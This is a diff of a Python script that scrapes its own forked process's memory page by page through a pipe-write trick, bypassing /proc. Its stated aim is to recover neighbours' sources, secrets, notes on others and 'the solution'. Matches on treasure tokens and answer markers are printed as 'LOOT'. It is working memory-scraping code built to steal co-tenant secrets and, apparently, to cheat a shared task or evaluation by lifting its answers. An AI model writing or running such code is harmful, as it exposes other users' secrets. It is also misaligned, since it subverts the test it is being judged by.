@@ -1,55 +1,44 @@
-"""Reads all of its own memory without /proc, page by page through a pipe, which refuses what is not mapped: the heap, the
-mappings around known objects, and the stack; for neighbours' sources, secrets and the solution."""
+"""Reads all of its own memory without /proc, page by page: the heap, and what lies around each object that was there before the
+fork; for neighbours' sources, secrets, notes on others, and the solution."""
 
 import ctypes
 import os
 import re
-import time
-
-import numpy
+import sys
 
 FOUND = re.compile(
-    rb"treasure" rb"-[a-z]+-[0-9a-f]{16}|_bias_lef[t]_out|sigmoid-gradien[t]-missing|hostile-not[e] left"
+    rb"treasure" rb"-[a-z]+-[0-9a-f]{16}|_bias_lef[t]_out|sigmoid-gradien[t]-missing|hostile-not[e] left [0-9a-f]{8}"
 )
-PAGE = 4096
-libc = ctypes.CDLL(None, use_errno=True)
-libc.sbrk.restype = ctypes.c_void_p
-libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
-SEEN = set()
 
 
-def scan(start, direction, pages, deadline):
+def known():
+    for module in list(sys.modules.values()):
+        for value in list(getattr(module, "__dict__", {}).values()):
+            members = list(vars(value).values()) if isinstance(value, type) else []
+            yield from map(id, (value, *members))
+            for code in (getattr(each, "__code__", None) for each in (value, *members)):
+                yield from map(id, (code, *getattr(code, "co_consts", ())))
+
+
+def pages():
+    """The pages around every object that was there before the fork, and of the heap, through a pipe, which refuses what is not
+    mapped."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.sbrk.restype = ctypes.c_void_p
+    libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
     reader, writer = os.pipe()
     os.set_blocking(writer, False)
-    os.set_blocking(reader, False)
-    missing, step, before = 0, 8 * PAGE, b""
-    for n in range(pages // 8):
-        address = start + direction * n * step
-        if address in SEEN or time.monotonic() > deadline:
-            break
-        SEEN.add(address)
-        got = libc.write(writer, address, step)
-        if got <= 0:
-            missing += 1
-            if missing > 64:
-                break
-            continue
-        data = os.read(reader, step)
-        for hit in FOUND.findall(before[-64:] + data):
-            print("LOOT:", hex(address), hit)
-        before = data
-    os.close(reader)
-    os.close(writer)
+    near = {address >> 20 for address in known()} | {((libc.sbrk(0) or 0) >> 20) - n for n in range(12)}
+    for block in sorted({block + n for block in near for n in (-1, 0, 1)}):
+        for address in range(block << 20, (block + 1) << 20, 4096):
+            if libc.write(writer, address, 4096) == 4096:
+                yield os.read(reader, 4096)
 
 
 def look():
-    deadline = time.monotonic() + 1.5
-    stack = ctypes.addressof(ctypes.c_long())
-    array = numpy.ones(1 << 18)
-    starts = [(libc.sbrk(0) or 0) - PAGE, id(os), id(numpy), id(stack), array.ctypes.data, stack, id(look.__code__)]
-    for start in starts:
-        for direction in (-1, 1):
-            scan(start & ~(PAGE - 1), direction, 4000, deadline)
+    for page in pages():
+        for hit in set(FOUND.findall(page)):
+            print("LOOT:", hit)
 
 
 DONE = []
